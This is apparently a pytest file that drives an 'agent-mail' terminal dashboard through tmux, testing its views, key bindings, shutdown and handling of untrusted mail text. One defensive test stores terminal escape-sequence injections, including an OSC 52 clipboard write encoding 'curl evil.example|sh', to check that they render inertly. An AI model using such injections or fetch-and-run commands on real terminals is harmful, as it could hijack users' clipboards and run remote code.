"""The dashboard end to end, in a real terminal (tmux: send-keys, capture-pane). Each skips, saying why, where its
tool is missing; CI (CI=1) installs it and requires it. (A browser has the web console: test_console.py.)"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time

import pytest

from tests.lib.cli import process_env
from tests.lib.waiting import until

pytest.importorskip("textual", reason="the dashboard needs the tui extra: pip install 'agent-mail[tui]'")

def am_process(*argv):
    done = subprocess.run([sys.executable, "-m", "agent_mail", *argv], env=process_env(), capture_output=True,
                          timeout=60)
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


@pytest.mark.requires("tmux")
def test_in_a_real_terminal_through_tmux(tmp_path):
    drive_in_tmux(tmp_path, live=False)


@pytest.mark.requires("tmux")
def test_in_a_real_terminal_a_send_appears_live(tmp_path):
    drive_in_tmux(tmp_path, live=True)


def drive_in_tmux(tmp_path, *, live: bool):
    am_process("send", "--from", "ops:lead", "--to", "web:worker", "--subject", "first task")
    tmux = ["tmux", "-S", str(tmp_path / "tmux.sock")]  # a tmux server of its own, ended with the test
    name = "dashboard"
    env = process_env(TERM="xterm-256color")
    command = " ".join(["env", f"AGENT_MAIL_DB={os.environ['AGENT_MAIL_DB']}", f"PYTHONPATH={env['PYTHONPATH']}",
                        f"HOME={os.environ['HOME']}", "TERM=xterm-256color", sys.executable, "-m", "agent_mail",
                        "dashboard", "--as", "ops:human", ";", "echo", "dashboard-exited-$?", ";", "sleep", "60"])
    subprocess.run([*tmux, "new-session", "-d", "-s", name, "-x", "80", "-y", "24", command], check=True, env=env)

    def pane():
        return subprocess.run([*tmux, "capture-pane", "-p", "-t", name], capture_output=True, text=True).stdout

    try:
        until(lambda: "web:worker" in pane() and "identities" in pane(), 30, f"the Fleet never showed:\n{pane()}")
        assert "deaf with mail" in pane()  # spelled, not only coloured
        subprocess.run([*tmux, "send-keys", "-t", name, "2"], check=True)
        until(lambda: "first task" in pane(), 10, f"Traffic never showed:\n{pane()}")
        am_process("send", "--from", "api:worker", "--to", "web:worker", "--subject", "live from tmux")
        if live:
            until(lambda: "live from tmux" in pane(), 20, f"the new send never appeared:\n{pane()}")
        subprocess.run([*tmux, "send-keys", "-t", name, "4"], check=True)  # from Traffic (it used to stay)
        until(lambda: "Sends per hour" in pane(), 10, f"4 did not show the Charts:\n{pane()}")
        subprocess.run([*tmux, "send-keys", "-t", name, "4"], check=True)
        time.sleep(0.5)  # time for a second "4" to take the Charts away, which it must not
        assert "Sends per hour" in pane(), pane()
        subprocess.run([*tmux, "send-keys", "-t", name, "?"], check=True)
        until(lambda: "Looking marks nothing read" in pane(), 10, f"no help:\n{pane()}")
        subprocess.run([*tmux, "send-keys", "-t", name, "Escape"], check=True)
        until(lambda: "Looking marks nothing read" not in pane(), 10, f"Escape did not close the help:\n{pane()}")
        subprocess.run([*tmux, "send-keys", "-t", name, "q"], check=True)
        until(lambda: "dashboard-exited-0" in pane(), 20, f"q did not end the dashboard cleanly:\n{pane()}")
        assert "Traceback" not in pane()
    finally:
        subprocess.run([*tmux, "kill-server"], capture_output=True)
    # Looking marked nothing read: both sends are still unread, whether or not the second was waited for.
    assert am_process("status", "--agent", "web:worker")["agents"][0]["unread"] == 2


@pytest.mark.requires("tmux")
@pytest.mark.parametrize("how", ["the terminal closes", "SIGTERM"])
def test_the_dashboard_ends_when_its_terminal_closes_or_it_is_terminated(tmp_path, how):
    am_process("send", "--from", "ops:lead", "--to", "web:worker", "--subject", "first task")
    tmux = ["tmux", "-S", str(tmp_path / "tmux.sock")]
    env = process_env(TERM="xterm-256color")
    command = " ".join(["exec", "env", f"AGENT_MAIL_DB={os.environ['AGENT_MAIL_DB']}",
                        f"PYTHONPATH={env['PYTHONPATH']}", f"HOME={os.environ['HOME']}", "TERM=xterm-256color",
                        sys.executable, "-m", "agent_mail", "dashboard"])
    subprocess.run([*tmux, "new-session", "-d", "-x", "80", "-y", "24", command], check=True, env=env)
    pid = int(subprocess.run([*tmux, "display", "-p", "#{pane_pid}"], capture_output=True, text=True).stdout)

    def alive() -> bool:
        try:
            os.kill(pid, 0)
        except ProcessLookupError:
            return False
        return open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[0] != "Z"

    try:
        pane = lambda: subprocess.run([*tmux, "capture-pane", "-p"], capture_output=True, text=True).stdout  # noqa: E731
        until(lambda: "identities" in pane(), 30, "the dashboard never drew")
        time.sleep(0.5)  # past its first draw, into its running loop: no state it shows says so
        if how == "SIGTERM":
            os.kill(pid, signal.SIGTERM)
        else:
            subprocess.run([*tmux, "kill-server"], capture_output=True)
        until(lambda: not alive(), 20, f"the dashboard went on running after {how}")
    finally:
        subprocess.run([*tmux, "kill-server"], capture_output=True)
        if alive():
            os.kill(pid, signal.SIGKILL)



def test_web_is_refused_naming_the_console_that_replaces_it():
    """`dashboard --web` served the fleet to a browser with no login: it is refused, naming the web console of
    `agent-mail serve`, and nothing listens."""
    done = subprocess.run([sys.executable, "-m", "agent_mail", "dashboard", "--web", "--port", "8099"],
                          env=process_env(), capture_output=True, timeout=60)
    assert done.returncode == 2 and done.stdout == b""
    problems = json.loads(done.stderr)["problems"]
    assert [p["field"] for p in problems] == ["--web", "--port"]
    assert "/ui/" in problems[0]["message"] and "agent-mail serve" in problems[0]["message"]


# What an identity could store before refs and attachment names refused control characters (or an older version
# stored): an OSC 0 title, an OSC 52 clipboard write (of "curl evil.example|sh"), a clear screen and an 8-bit CSI.
HOSTILE = "x\x1b]0;pwned\x1b\\ \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x1b\\ \x1b[2J \x9b31m"
MARKUP = ("fix [/bold] now", "[link=https://evil.example]notes[/link]")


@pytest.mark.requires("tmux")
def test_text_from_mail_reaches_the_terminal_as_text(tmp_path, mailbox_path):
    """Subjects that are markup to Rich and a ref, an attachment name and a body full of control sequences: the
    dashboard lives, shows each as text (the sequences written out), and writes none of them to the terminal."""
    import sqlite3

    (tmp_path / "notes.txt").write_text("x")
    for subject in MARKUP:
        am_process("send", "--from", "ops:lead", "--to", "web:worker", "--subject", subject)
    hostile = am_process("send", "--from", "ops:lead", "--to", "web:worker", "--subject", "escapes",
                         "--ref", str(tmp_path / "notes.txt"), "--attach", str(tmp_path / "notes.txt"))["id"]
    with sqlite3.connect(mailbox_path) as db:  # as stored by an older version: send refuses them
        db.execute("UPDATE messages SET refs = ?, body = ? WHERE id = ?",
                   (json.dumps(["/srv/" + HOSTILE]), "body " + HOSTILE, hostile))
        db.execute("UPDATE attachments SET name = ? WHERE message_id = ?", (HOSTILE, hostile))
    db.close()

    tmux = ["tmux", "-S", str(tmp_path / "tmux.sock")]
    name, raw, go = "dashboard", tmp_path / "raw.out", tmp_path / "go"
    env = process_env(TERM="xterm-256color")
    # The dashboard starts once every byte the pane receives is copied to raw.out (pipe-pane), so the file
    # holds all it ever wrote to its terminal.
    command = " ".join(["while [ ! -e", str(go), "]; do sleep 0.05; done;", "env",
                        f"AGENT_MAIL_DB={os.environ['AGENT_MAIL_DB']}", f"PYTHONPATH={env['PYTHONPATH']}",
                        f"HOME={os.environ['HOME']}", "TERM=xterm-256color", sys.executable, "-m", "agent_mail",
                        "dashboard", ";", "echo", "dashboard-exited-$?", ";", "sleep", "60"])
    subprocess.run([*tmux, "new-session", "-d", "-s", name, "-x", "200", "-y", "50", command], check=True, env=env)

    def pane():
        return subprocess.run([*tmux, "capture-pane", "-p", "-J", "-t", name], capture_output=True,
                              text=True).stdout

    try:
        subprocess.run([*tmux, "pipe-pane", "-t", name, f"cat >> {raw}"], check=True)
        go.touch()
        until(lambda: "web:worker" in pane() and "identities" in pane(), 30, f"the Fleet never showed:\n{pane()}")
        subprocess.run([*tmux, "send-keys", "-t", name, "2"], check=True)
        # The newest send (the hostile one) is selected and shown in full; the markup subjects are shown as written.
        until(lambda: all(subject in pane() for subject in MARKUP) and "pwned" in pane(), 20,
              f"Traffic never showed the sends as text:\n{pane()}")
        subprocess.run([*tmux, "send-keys", "-t", name, "Enter"], check=True)  # its thread, opened
        until(lambda: "in reply to" not in pane() and pane().count("\\x1b]0;pwned") >= 3, 20,
              f"the thread never showed the sequences written out:\n{pane()}")
        shown = pane()
        assert "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\x1b\\" in shown and "\\x1b[2J \\x9b31m" in shown, shown
        subprocess.run([*tmux, "send-keys", "-t", name, "q"], check=True)
        until(lambda: "dashboard-exited-0" in pane(), 20, f"q did not end the dashboard cleanly:\n{pane()}")
        assert "Traceback" not in pane() and "MarkupError" not in pane()
    finally:
        subprocess.run([*tmux, "kill-server"], capture_output=True)
    written = raw.read_bytes()
    assert b"pwned" in written  # the text did go to the terminal, as text:
    for sequence in (b"\x1b]0;pwned", b"\x1b]52;", b"\x1b]8;", b"\x1b[2J \xc2\x9b", b"\x1b\\"):
        assert sequence not in written, sequence
    assert "\x9b" not in written.decode("utf-8", "replace")  # no C1 control (UTF-8 encoded) from mail either
